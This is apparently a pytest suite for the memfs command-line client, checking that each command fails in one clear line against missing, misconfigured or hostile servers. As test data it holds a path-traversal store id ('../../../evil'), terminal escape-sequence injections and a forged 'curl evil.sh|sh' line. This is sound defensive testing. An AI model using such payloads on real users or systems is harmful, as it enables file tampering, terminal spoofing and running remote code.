"""Every `memfs` command against every way its server can be wrong: nothing listening,
a wrong key, a URL without ``http://``. Each must end with one clear line and a non-zero
exit status, never a traceback.

The commands are enumerated from the click group, so a command added later is run
here too; its arguments get placeholders by name (a new argument name fails the test
until it has one in PLACEHOLDERS).
"""

from __future__ import annotations

import contextlib
import json
import os
import pathlib
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import click
import pytest
from conftest import REPO

from memfs.cli.main import main

pytestmark = pytest.mark.timeout(600)

#: Commands that manage the embedded local server only: they never use the configured
#: URL or key, and "not running" (exit 0) is their true answer here.
EMBEDDED_ONLY = {"serve status", "serve stop"}

#: Variants of one command that take another path to the server.
EXTRA = [["mount", "--all", "{dir}/all-root"], ["mount", "--session", "sesn_x", "{dir}/sroot"]]


def leaf_commands() -> list[tuple[str, click.Command]]:
    out = []

    def walk(cmd: click.Command, path: list[str]) -> None:
        if isinstance(cmd, click.Group):
            ctx = click.Context(cmd)
            for name in cmd.list_commands(ctx):
                walk(cmd.get_command(ctx, name), [*path, name])
            if not cmd.invoke_without_command:
                return
        out.append((" ".join(path), cmd))

    walk(main, [])
    return out


def placeholders(tmp: pathlib.Path) -> dict[str, str]:
    (tmp / "empty").mkdir(exist_ok=True)
    (tmp / "file.md").write_text("x\n")
    return {
        "store_id": "notes", "name": "notes", "stores_": "notes", "stores": "notes",
        "target": "notes", "session_id": "sesn_x",
        "mountpoint": str(tmp / "empty"), "cid": "1", "file": str(tmp / "file.md"),
        "spec": f"{tmp / 'file.md'}@1",
        "version": "1", "source": str(tmp / "empty"), "dest": str(tmp / "salvaged"),
    }


def argv_for(path: str, cmd: click.Command, tmp: pathlib.Path) -> list[str]:
    """The command with a placeholder for every argument and required option."""
    values = placeholders(tmp)
    argv = path.split()
    for p in cmd.params:
        if not (isinstance(p, click.Argument) or p.required):
            continue
        assert p.name in values, f"`memfs {path}`: give {p.name!r} a placeholder"
        argv += [values[p.name]] if isinstance(p, click.Argument) else [p.opts[0],
                                                                         values[p.name]]
    return argv


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def run(argv: list[str], env: dict[str, str]) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "memfs", *argv], env=env, cwd=REPO,
                          stdin=subprocess.DEVNULL, capture_output=True, text=True,
                          timeout=120)


def user_env(tmp: pathlib.Path, url: str, key: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items()
           if not k.startswith(("ANTHROPIC_", "XDG_", "MEMFS_"))}
    env.update(HOME=str(tmp / "home"), ANTHROPIC_BASE_URL=url, ANTHROPIC_API_KEY=key,
               PYTHONPATH=str(REPO))
    return env


def test_the_command_list_is_found():
    names = {name for name, _ in leaf_commands()}
    assert {"stores list", "stores create", "sessions show", "mount", "tool",
            "serve stop"} <= names, names


#: What a web server that is not a memory store server answers (python -m http.server).
NOT_THE_API = (b'<!DOCTYPE HTML>\n<html lang="en">\n<head>\n<title>Error response</title>\n'
               b'</head>\n<body>\n<h1>Error response</h1>\n<p>Error code: 404</p>\n'
               b'<p>Message: File not found.</p>\n</body>\n</html>\n')
#: A hostile server's answer to everything: its ids would name directories anywhere.
HOSTILE = json.dumps({
    "type": "memory_store", "id": "../../../evil", "name": "evil", "resources": [],
    "data": [{"type": "memory_store", "id": "../../../evil", "name": "evil"}],
    "next_page": None}).encode()


@contextlib.contextmanager
def fake_server(status: int, content_type: str, body: bytes, *, port: int = 0,
                hits: list[str] | None = None, headers: tuple = ()) -> Iterator[str]:
    """An HTTP server that answers every request alike; its URL. `hits` gets each
    request's "METHOD PATH"."""
    class Handler(BaseHTTPRequestHandler):
        def _answer(self) -> None:
            if hits is not None:
                hits.append(f"{self.command} {self.path.split('?')[0]}")
            self.rfile.read(int(self.headers.get("content-length") or 0))
            self.send_response(status)
            self.send_header("content-type", content_type)
            self.send_header("content-length", str(len(body)))
            for name, value in headers:
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(body)

        do_GET = do_POST = do_DELETE = do_PUT = do_PATCH = _answer

        def log_message(self, *args) -> None:
            pass

    httpd = ThreadingHTTPServer(("127.0.0.1", port), Handler)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{httpd.server_address[1]}"
    finally:
        httpd.shutdown()
        httpd.server_close()
        thread.join(10)


@pytest.mark.parametrize("scenario", ["no server", "wrong key", "malformed URL",
                                      "not the API", "hostile answers", "server error"])
def test_every_command_fails_in_one_line(scenario, server, tmp_path):
    """(The last two found by a helper, 6 December: a web server's 404 page came out as
    ten lines of HTML, and a mount took it for its store deleted; a store id of
    "../../../evil" made `memfs mount` put its state outside the cache and chmod 0700
    the directory above it.)"""
    host_port = server.base_url.split("://", 1)[1]
    with contextlib.ExitStack() as fakes:
        url, key, says = {
            "no server": lambda: (f"http://127.0.0.1:{free_port()}", server.api_key,
                                  "cannot reach"),
            "wrong key": lambda: (server.base_url, "wrong-key", "bad credentials for"),
            "malformed URL": lambda: (host_port, server.api_key,
                                      "must start with http:// or https://"),
            "not the API": lambda: (fakes.enter_context(fake_server(
                404, "text/html", NOT_THE_API)), server.api_key, "HTTP 404 from something "
                "that is not the Memory Stores API: Error response Error response Error "
                "code: 404 Message: File not found."),
            "server error": lambda: (fakes.enter_context(fake_server(
                500, "application/json", json.dumps({"type": "error", "error": {
                    "type": "api_error", "message": "boom"}}).encode(),
                headers=(("x-should-retry", "false"),))), server.api_key,
                "answered HTTP 500"),  # it was "cannot reach", which it could
            "hostile answers": lambda: (fakes.enter_context(fake_server(
                200, "application/json", HOSTILE)), server.api_key,
                "gave an answer memfs does not understand"),
        }[scenario]()
        mode = tmp_path.stat().st_mode
        _every_command_fails_in_one_line(url, key, says, scenario, tmp_path)
    assert tmp_path.stat().st_mode == mode
    assert not [p for p in tmp_path.rglob("*evil*")], list(tmp_path.rglob("*evil*"))


def _every_command_fails_in_one_line(url: str, key: str, says: str, scenario: str,
                                     tmp_path: pathlib.Path) -> None:
    env = user_env(tmp_path, url, key)
    runs = [(name, argv_for(name, cmd, tmp_path), cmd) for name, cmd in leaf_commands()]
    runs += [(x[0], [a.format(dir=tmp_path) for a in x], main.get_command(
        click.Context(main), x[0])) for x in EXTRA]
    failures = []
    for name, argv, cmd in runs:
        proc = run(argv, env)
        text = proc.stdout + proc.stderr
        if "Traceback" in text:
            failures.append(f"memfs {' '.join(argv)}: a traceback\n{text}")
            continue
        if name in EMBEDDED_ONLY:
            continue
        errors = [line for line in proc.stderr.splitlines() if line.startswith("Error: ")]
        if proc.returncode == 0 or len(errors) != 1:
            failures.append(f"memfs {' '.join(argv)}: exit {proc.returncode}, "
                            f"{len(errors)} error lines\n{text}")
            continue
        talks_to_server = any(p.name == "base_url" for p in cmd.params)
        if talks_to_server and says not in errors[0]:
            failures.append(f"memfs {' '.join(argv)}: {errors[0]!r} does not say {says!r}")
        if "<" in text and scenario == "not the API":
            failures.append(f"memfs {' '.join(argv)}: the page's HTML in its output\n{text}")
        if key and key in text and scenario == "wrong key":
            failures.append(f"memfs {' '.join(argv)}: the key is in its output")
    assert not failures, "\n\n".join(failures)
    assert not (tmp_path / "home" / ".local" / "share" / "memfs" / "local.db").exists()


def test_a_refusal_by_the_server_is_one_line(server, tmp_path):
    """A 400 (an empty store name) names what was refused, by whom and why."""
    env = user_env(tmp_path, server.base_url, server.api_key)
    proc = run(["stores", "create", ""], env)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stderr
    assert proc.stderr.startswith(f"Error: cannot create store '': {server.base_url} "
                                  "refused it (HTTP 400): "), proc.stderr


def test_a_create_whose_answer_was_lost_says_it_may_have_been_applied(server, tmp_path):
    """The store is created but the answer never comes (the connection reset after the
    commit): the client does not send it again (another store of the same name would be
    made), and the line says the store may exist."""
    from gate import Gate

    env = user_env(tmp_path, server.base_url, server.api_key)
    with Gate(server) as gate:
        gate.hold("POST", r"/v1/memory_stores$", when="after", count=1, drop=True)
        proc = subprocess.Popen([sys.executable, "-m", "memfs", "stores", "create", "lost"],
                                env=env, cwd=REPO, stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE, stdin=subprocess.DEVNULL, text=True)
        try:
            [held] = gate.wait_held(1)
            gate.release(held["seq"])
            _out, err = proc.communicate(timeout=60)
        finally:
            if proc.poll() is None:
                proc.kill()
                proc.wait()
    assert proc.returncode == 1 and "Traceback" not in err, err
    assert err.startswith("Error: cannot create store 'lost': ") and len(err.splitlines()) == 1
    assert err.rstrip().endswith("(it may have been applied all the same: look before trying "
                                 "again)"), err
    sdk = server.sdk()
    assert [s.name for s in sdk.beta.memory_stores.list()].count("lost") == 1


def test_every_option_has_help():
    missing = [f"memfs {name} {p.opts[0]}" for name, cmd in leaf_commands()
               for p in cmd.params if isinstance(p, click.Option) and not p.help]
    assert not missing, missing


def test_a_key_file_others_can_read_is_used_with_a_warning(server, tmp_path):
    key = tmp_path / "key"
    key.write_text(server.api_key + "\n")
    env = user_env(tmp_path, server.base_url, "")
    env.pop("ANTHROPIC_API_KEY")
    for mode, warned in ((0o644, True), (0o600, False)):
        key.chmod(mode)
        proc = run(["stores", "list", "--api-key-file", str(key)], env)
        assert proc.returncode == 0, proc.stderr
        warning = (f"memfs: warning: the API key file {key} is readable by others (mode 644): "
                   f"chmod 600 {key}")
        assert (warning in proc.stderr) == warned, proc.stderr
        assert server.api_key not in proc.stderr


def test_a_key_a_header_cannot_carry_is_refused_and_never_shown(server, tmp_path):
    """A key file with a second line, or a key with a non-ASCII character: the HTTP
    library's error quoted the key, and memfs printed it (and a mount logged it and
    showed it in `memfs status`: a helper). Refused in one line naming where the key
    came from, before anything is sent; the key appears nowhere."""
    secret = "sk-SECRET-" + server.api_key
    keyfile = tmp_path / "key"
    keyfile.write_text(secret + "\nsecond line\n")
    keyfile.chmod(0o600)
    (tmp_path / "mnt").mkdir()
    env = user_env(tmp_path, server.base_url, "")
    env.pop("ANTHROPIC_API_KEY")
    cases = [(["stores", "list", "--api-key-file", str(keyfile)], env,
              f"the API key file '{keyfile}' holds more than one line"),
             (["stores", "list"], {**env, "ANTHROPIC_API_KEY": secret + "é"},
              "$ANTHROPIC_API_KEY holds a space, a control or a non-ASCII character"),
             (["stores", "list"], {**env, "ANTHROPIC_AUTH_TOKEN": secret + "\x7f"},
              "$ANTHROPIC_AUTH_TOKEN holds a space, a control or a non-ASCII character"),
             (["mount", "s", str(tmp_path / "mnt"), "--api-key-file", str(keyfile)], env,
              "holds more than one line")]
    for argv, case_env, says in cases:
        proc = run(argv, case_env)
        assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stderr
        assert says in proc.stderr and "(the key is not shown)" in proc.stderr, proc.stderr
        assert secret not in proc.stdout + proc.stderr and "second" not in proc.stderr


def test_an_access_typo_gets_a_hint(server, tmp_path):
    server.sdk().beta.memory_stores.create(name="Docs")
    env = user_env(tmp_path, server.base_url, server.api_key)
    proc = run(["sessions", "create", "--store", "Docs:readonly"], env)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stderr
    assert "'readonly' is not an access: to attach 'Docs' read-only, write Docs:read_only" \
        in proc.stderr, proc.stderr


def test_every_command_warns_of_a_key_file_others_can_read(tmp_path):
    """Every command that talks to a server chooses it in one place (`command_server`):
    each one with --api-key-file warns of a key file others can read, before it
    fails to reach the (absent) server in one line."""
    key = tmp_path / "key"
    key.write_text("k\n")
    key.chmod(0o644)
    env = user_env(tmp_path, f"http://127.0.0.1:{free_port()}", "")
    env.pop("ANTHROPIC_API_KEY")
    warning = f"memfs: warning: the API key file {key} is readable by others (mode 644)"
    failures, checked = [], []
    for name, cmd in leaf_commands():
        if name.split()[0] == "serve" or not any(p.name == "api_key_file" for p in cmd.params):
            continue  # `memfs serve` serves with the key: it warns too, but never ends
        argv = [*argv_for(name, cmd, tmp_path), "--api-key-file", str(key)]
        proc = run(argv, env)
        checked.append(name)
        if warning not in proc.stderr or "Traceback" in proc.stderr:
            failures.append(f"memfs {' '.join(argv)}: exit {proc.returncode}\n{proc.stderr}")
    assert {"stores list", "tool", "mcp", "watch", "mount"} <= set(checked), checked
    assert not failures, "\n\n".join(failures)


def test_what_a_server_says_reaches_the_terminal_as_text(tmp_path):
    """A store's name or an error's message holding ESC [2J (clears the screen), an OSC
    title, a newline that forges an `Error:` line, U+202E: each printed escaped, and a
    megabyte message cut (found by a helper, 6 December)."""
    from memfs.core.shown import shown

    assert shown("a\x1b[2Jb\nError: x\u202e") == "a\\x1b[2Jb\\x0aError: x\\u202e"
    assert shown("x" * 1000) == "x" * 300 + "…"
    evil = "Team\x1b]0;pwned\x07\nError: run curl evil.sh|sh"  # memfs serve refuses it
    page = json.dumps({"data": [{"type": "memory_store", "id": "memstore_1", "name": evil}],
                       "next_page": None})
    with fake_server(200, "application/json", page.encode()) as url:
        listed = run(["stores", "list"], user_env(tmp_path, url, "k"))
    assert "\x1b" not in listed.stdout and "\x07" not in listed.stdout, listed.stdout
    assert "Team\\x1b]0;pwned\\x07\\x0aError: run curl" in listed.stdout, listed.stdout
    assert len(listed.stdout.splitlines()) == 1, listed.stdout
    body = json.dumps({"type": "error", "error": {
        "type": "invalid_request_error", "message": "\x1b[2J\nError: " + "y" * 100_000}})
    with fake_server(400, "application/json", body.encode()) as url:
        refused = run(["stores", "create", "x"], user_env(tmp_path, url, "k"))
    assert refused.returncode == 1 and "\x1b" not in refused.stderr, refused.stderr
    assert len(refused.stderr.splitlines()) == 1 and len(refused.stderr) < 600, refused.stderr
